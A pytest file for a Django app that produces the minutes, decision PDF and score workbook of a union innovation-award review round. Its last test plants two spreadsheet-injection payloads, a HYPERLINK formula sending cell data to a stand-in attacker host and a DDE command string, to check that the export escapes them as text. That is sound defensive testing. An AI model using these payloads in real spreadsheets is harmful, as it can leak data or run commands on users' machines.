"""The documents of a review round: the council's minutes and the decision as real PDFs, the
scores as an XLSX workbook; submitted sheets only, a draft sheet's values never printed."""

from datetime import datetime
from decimal import Decimal
from io import BytesIO
from types import SimpleNamespace

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from awards.documents import (
    SHEETS_SHEET,
    SUMMARY_SHEET,
    decision_filename,
    decision_html,
    export_scores_xlsx,
    minutes_filename,
    minutes_html,
    render_decision_pdf,
    render_minutes_pdf,
    scores_filename,
)
from awards.enums import CouncilRole, Outcome
from awards.models import ReviewRound, RoundEntry, ScoreSheet
from awards.services import CriterionData, conflict_declare, round_transition
from initiatives.models import Initiative
from tests.factories import UserFactory, unit_officer
from tests.factories.awards import (
    accepted_dossier,
    close,
    enter,
    make_round,
    make_rubric,
    record_vote,
    score,
    seat,
)
from tests.pdf import assert_real_pdf, pdf_text

CRITERIA = (
    CriterionData(name="Tính mới", max_points=Decimal(30), eliminatory=True),
    CriterionData(name="Khả năng áp dụng", max_points=Decimal(30)),
    CriterionData(name="Hiệu quả, lợi ích", max_points=Decimal(40)),
)
# A member's draft sheet on the second dossier: never submitted, so never printed.
DRAFT_POINTS = ["29.75", "29.25", "39.5"]  # total 98.5
DRAFT_TEXTS = ["29,75", "29,25", "39,5", "98,5"]
NOT_RECOGNISED_REASON = "Giải pháp chưa chứng minh được hiệu quả kinh tế."
RETURNED_REASON = "Bổ sung số liệu đo kiểm trước và sau khi áp dụng."
CONFLICT_REASON = "Là người hướng dẫn nhóm tác giả."


@pytest.fixture
def scored(tree):
    """A closed recognition round at a grassroots union with four council members and three
    dossiers:

    - A "Cải tiến đồ gá hàn khung ghế": four sheets (totals 88, 82, 91.5, 85), recognised 4-0-0;
    - B "Tự động hóa khâu đóng gói": three sheets (37, 36, 15: a wide spread), the fourth left
      a draft with DRAFT_POINTS; not recognised 1-3-0 with reasons;
    - C "Sơ đồ bố trí kho thành phẩm": the fourth member declared a conflict; three sheets with
      a median of 0 on the eliminatory criterion; returned 0-2-1 with reasons.
    """
    unit = tree.grassroots_a1x
    officer = unit_officer(unit)
    version = make_rubric(criteria=CRITERIA, pass_threshold=50)
    review_round = make_round(
        unit, officer=officer, rubric_version=version, title="Xét công nhận sáng kiến năm nay"
    )

    def person(role, first_name, last_name, position):
        user = UserFactory(first_name=first_name, last_name=last_name)
        return seat(review_round, role=role, user=user, position=position)

    chair = person(CouncilRole.CHAIR, "Bình", "Phạm Văn", "Giám đốc Công ty")
    secretary = person(CouncilRole.SECRETARY, "Cúc", "Lê Thị", "Cán bộ công đoàn")
    member = person(CouncilRole.MEMBER, "Dũng", "Hoàng Minh", "Trưởng phòng Kỹ thuật")
    conflicted = person(CouncilRole.UNION_REPRESENTATIVE, "Em", "Đỗ Thị", "Quản đốc phân xưởng 2")

    titles = [
        "Cải tiến đồ gá hàn khung ghế",
        "Tự động hóa khâu đóng gói",
        "Sơ đồ bố trí kho thành phẩm",
    ]
    a, b, c = [
        enter(review_round, accepted_dossier(unit, officer=officer, title=title))
        for title in titles
    ]
    conflict_declare(entry=c, member=conflicted, reason=CONFLICT_REASON, actor=officer)
    round_transition(review_round=review_round, action="open", actor=officer)
    round_transition(review_round=review_round, action="start_scoring", actor=officer)

    def sheet(entry, seat_):
        return entry.sheets.get(member=seat_)

    score(sheet(a, chair), [27, 26, 35], comment="Áp dụng được cho cả ba phân xưởng.")
    score(sheet(a, secretary), [25, 24, 33])
    score(sheet(a, member), ["28.5", 27, 36])
    score(sheet(a, conflicted), [26, 25, 34])
    score(sheet(b, chair), [10, 12, 15])
    score(sheet(b, secretary), [12, 10, 14])
    score(sheet(b, member), [0, 5, 10])
    score(sheet(b, conflicted), DRAFT_POINTS, submit=False, comment="Nháp chưa nộp")
    score(sheet(c, chair), [0, 20, 30])
    score(sheet(c, secretary), [0, 22, 31])
    score(sheet(c, member), [5, 18, 28])
    round_transition(
        review_round=review_round,
        action="close_scoring",
        actor=officer,
        note="Một thành viên chưa nộp phiếu.",
    )
    record_vote(a, Outcome.RECOGNISED, actor=officer, votes_for=4, votes_against=0)
    record_vote(
        b,
        Outcome.NOT_RECOGNISED,
        actor=officer,
        votes_for=1,
        votes_against=3,
        reason=NOT_RECOGNISED_REASON,
    )
    record_vote(
        c,
        Outcome.RETURNED,
        actor=officer,
        votes_for=0,
        votes_against=2,
        votes_abstain=1,
        reason=RETURNED_REASON,
    )
    decision = close(review_round, actor=officer)
    return SimpleNamespace(
        round=ReviewRound.objects.get(pk=review_round.pk),
        decision=decision,
        a=RoundEntry.objects.get(pk=a.pk),
        b=RoundEntry.objects.get(pk=b.pk),
        c=RoundEntry.objects.get(pk=c.pk),
        titles=titles,
        people=[chair, secretary, member, conflicted],
    )


def names(scored) -> list[str]:
    return [seat_.user.get_full_name() for seat_ in scored.people]


# --- the minutes ---------------------------------------------------------------------------


def test_minutes_html_lists_council_dossiers_by_rank_scores_votes_and_conflicts(scored):
    html = minutes_html(scored.round)
    for text in [
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "CÔNG ĐOÀN CƠ SỞ CÔNG TY MAY SÔNG HIẾU",
        "Xét công nhận sáng kiến năm nay",
        *names(scored),
        "Giám đốc Công ty",
        "Trưởng phòng Kỹ thuật",
        # every submitted sheet's points and total
        "28,5",
        "91,5",
        "88",
        # dossier A: mean 86.63, median 86.5, spread 9.5
        "86,63",
        "86,5",
        "9,5",
        # dossier B: mean 29.33, median 36, spread 22 (flagged)
        "29,33",
        "Áp dụng được cho cả ba phân xưởng.",
        NOT_RECOGNISED_REASON,
        RETURNED_REASON,
        CONFLICT_REASON,
        scored.decision.number,
        scored.decision.decided_on.strftime("%d/%m/%Y"),
    ]:
        assert text in html, text
    # best rank first: A (86.63), then B (29.33); C (51.33) is eliminated and comes last
    a, b, c = scored.titles
    details = html.index("<h3>1.")
    assert details < html.index(f"1. {a}") < html.index(f"2. {b}") < html.index(f"3. {c}")
    assert 'class="num flag">22<' in html  # B's spread of totals exceeds 20% of 100
    for text in DRAFT_TEXTS + ["Nháp chưa nộp"]:
        assert text not in html


def test_minutes_pdf_is_a_real_pdf_with_names_scores_and_decision_number(scored):
    content = render_minutes_pdf(scored.round)
    assert_real_pdf(content)
    text = pdf_text(content)
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text
    for name in names(scored):
        assert name in text
    for value in ["28,5", "91,5", "86,63", "29,33", "51,33"]:
        assert value in text
    assert scored.decision.number in text
    assert NOT_RECOGNISED_REASON in text
    assert CONFLICT_REASON in text
    for value in DRAFT_TEXTS:
        assert value not in text


def test_minutes_of_a_round_under_deliberation_have_no_decision(tree):
    unit = tree.grassroots_a1x
    officer = unit_officer(unit)
    review_round = make_round(unit, officer=officer, title="Đợt xét đang họp")
    seat(review_round, role=CouncilRole.CHAIR)
    seat(review_round, role=CouncilRole.SECRETARY)
    seat(review_round, role=CouncilRole.UNION_REPRESENTATIVE)
    entry = enter(review_round, accepted_dossier(unit, officer=officer))
    round_transition(review_round=review_round, action="open", actor=officer)
    round_transition(review_round=review_round, action="start_scoring", actor=officer)
    for sheet in entry.sheets.all():
        score(sheet, [20, 20, 20], submit=False)
    round_transition(
        review_round=review_round, action="close_scoring", actor=officer, note="Hết hạn."
    )
    review_round = ReviewRound.objects.get(pk=review_round.pk)
    html = minutes_html(review_round)
    assert "Đợt xét đang họp" in html
    assert "QĐ-" not in html
    assert ">20<" not in html  # drafts only: no value is printed
    assert_real_pdf(render_minutes_pdf(review_round))
    with pytest.raises(ValueError):
        decision_html(review_round)


# --- the decision --------------------------------------------------------------------------


def test_decision_lists_recognised_dossiers_then_the_others_with_reasons(scored):
    html = decision_html(scored.round)
    decided = scored.decision.decided_on
    a, b, c = scored.titles
    for text in [
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        f"Số: {scored.decision.number}",
        f"ngày {decided.day:02d} tháng {decided.month:02d} năm {decided.year}",
        "CÔNG ĐOÀN CƠ SỞ CÔNG TY MAY SÔNG HIẾU",
        "CHỦ TỊCH CÔNG ĐOÀN",
        "Trần Thị Hoa",
        NOT_RECOGNISED_REASON,
        RETURNED_REASON,
    ]:
        assert text in html, text
    # Article 1 holds only the recognised dossier; B and C follow with their reasons.
    assert html.index(a) < html.index(b) < html.index(NOT_RECOGNISED_REASON)
    assert html.index(a) < html.index(c) < html.index(RETURNED_REASON)
    author = scored.a.initiative.authors.get().full_name
    assert author in html
    assert "91,5" not in html and "86,63" not in html  # a decision prints no score


def test_decision_pdf_is_a_real_pdf_with_number_date_and_signer(scored):
    content = render_decision_pdf(scored.round)
    assert_real_pdf(content)
    text = pdf_text(content)
    decided = scored.decision.decided_on
    assert scored.decision.number in text
    assert f"ngày {decided.day:02d} tháng {decided.month:02d} năm {decided.year}" in text
    assert "Trần Thị Hoa" in text
    for title in scored.titles:
        assert title in text


def test_document_filenames_are_ascii_and_name_the_round(scored):
    number = scored.decision.number  # e.g. 01/QĐ-CSX/2025
    sequence, _kind, year = number.split("/")
    assert decision_filename(scored.round) == f"quyet-dinh-{sequence}-qd-csx-{year}.pdf"
    assert minutes_filename(scored.round) == f"bien-ban-hop-hoi-dong-{scored.round.pk}.pdf"
    assert scores_filename(scored.round) == f"bang-diem-dot-xet-{scored.round.pk}.xlsx"
    for name in [decision_filename(scored.round), minutes_filename(scored.round)]:
        assert name.isascii()


# --- the workbook --------------------------------------------------------------------------

# Columns of "Tổng hợp" with three criteria.
RANK, RECEIPT, TITLE, UNIT, SHEETS = range(5)
C1_MEAN, C1_MEDIAN = 5, 6
TOTAL_MEAN, TOTAL_MEDIAN, SPREAD, DISAGREEMENT, ELIMINATED, PASSED = range(11, 17)
FOR, AGAINST, ABSTAIN, VOTERS, VOTED_ON, OUTCOME, REASONS = range(17, 24)


def workbook(scored):
    return load_workbook(BytesIO(export_scores_xlsx(scored.round)))


def test_scores_xlsx_summary_has_one_row_per_dossier_by_rank_with_numbers(scored):
    book = workbook(scored)
    assert book.sheetnames == [SUMMARY_SHEET, SHEETS_SHEET] == ["Tổng hợp", "Phiếu chấm"]
    rows = list(book[SUMMARY_SHEET].iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    assert len(header) == 24
    assert all(isinstance(label, str) and label for label in header)
    assert "Tính mới" in header[C1_MEAN]
    a, b, c = scored.titles
    assert [row[TITLE] for row in body] == [a, b, c]
    first, second, third = body
    assert first[RANK] == 1 and second[RANK] == 2 and third[RANK] == 3
    assert first[RECEIPT] == scored.a.initiative.receipt_number
    assert first[UNIT] == "Công đoàn cơ sở Công ty May Sông Hiếu"
    assert (first[SHEETS], second[SHEETS], third[SHEETS]) == (4, 3, 3)
    assert first[TOTAL_MEAN] == pytest.approx(86.63)
    assert first[TOTAL_MEDIAN] == pytest.approx(86.5)
    assert first[SPREAD] == pytest.approx(9.5)
    assert first[C1_MEAN] == pytest.approx(26.63)  # (27 + 25 + 28.5 + 26) / 4
    assert third[C1_MEDIAN] == 0
    assert second[TOTAL_MEAN] == pytest.approx(29.33)
    assert second[TOTAL_MEDIAN] == 36
    assert second[SPREAD] == 22
    for row in body:
        for column in [RANK, SHEETS, C1_MEAN, TOTAL_MEAN, SPREAD, FOR, AGAINST, VOTERS]:
            assert isinstance(row[column], int | float), (row[TITLE], column)
    assert (first[FOR], first[AGAINST], first[ABSTAIN], first[VOTERS]) == (4, 0, 0, 4)
    assert (second[FOR], second[AGAINST], second[ABSTAIN], second[VOTERS]) == (1, 3, 0, 4)
    assert (third[FOR], third[AGAINST], third[ABSTAIN], third[VOTERS]) == (0, 2, 1, 3)
    assert first[VOTED_ON].date() == timezone.localdate(scored.a.vote_recorded_at)
    assert second[REASONS] == NOT_RECOGNISED_REASON
    assert third[REASONS] == RETURNED_REASON
    # yes/no flags: A passes, C is eliminated, B's scores differ widely
    assert first[PASSED] == second[DISAGREEMENT] == third[ELIMINATED]
    assert first[PASSED] != first[ELIMINATED]
    assert third[PASSED] == second[PASSED] == first[DISAGREEMENT]


def test_scores_xlsx_lists_submitted_sheets_only(scored):
    rows = list(workbook(scored)[SHEETS_SHEET].iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    assert len(header) == 11
    assert len(body) == 10  # 4 on A, 3 on B (one left a draft), 3 on C (one conflicted)
    a, b, c = scored.titles
    chair, _secretary, member, conflicted = names(scored)
    by_key = {(row[1], row[2]): row for row in body}
    assert (b, conflicted) not in by_key and (c, conflicted) not in by_key
    row = by_key[(a, member)]
    assert row[0] == scored.a.initiative.receipt_number
    assert row[4:8] == (28.5, 27, 36, 91.5)
    assert isinstance(row[8], datetime)
    assert by_key[(a, chair)][9] == "Áp dụng được cho cả ba phân xưởng."
    values = {value for row in body for value in row}
    for draft in [29.75, 29.25, 39.5, 98.5, "Nháp chưa nộp"]:
        assert draft not in values


def test_scores_xlsx_writes_hostile_titles_and_comments_as_text(scored):
    hostile_title = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
    hostile_comment = "=cmd|' /C calc'!A0"
    Initiative.objects.filter(pk=scored.a.initiative_id).update(title=hostile_title)
    ScoreSheet.objects.filter(entry=scored.a).update(overall_comment=hostile_comment)
    book = workbook(scored)
    summary = book[SUMMARY_SHEET]
    title_cells = [row[TITLE] for row in summary.iter_rows(min_row=2)]
    assert title_cells[0].value == "'" + hostile_title
    assert title_cells[0].data_type == "s"
    sheets = list(book[SHEETS_SHEET].iter_rows(min_row=2))
    comments = [row[-2] for row in sheets if row[1].value == "'" + hostile_title]
    assert len(comments) == 4
    assert all(c.value == "'" + hostile_comment and c.data_type == "s" for c in comments)
    assert not any(
        cell.data_type == "f" for sheet in book for row in sheet.iter_rows() for cell in row
    )
    assert summary.cell(row=2, column=RANK + 1).value == 1
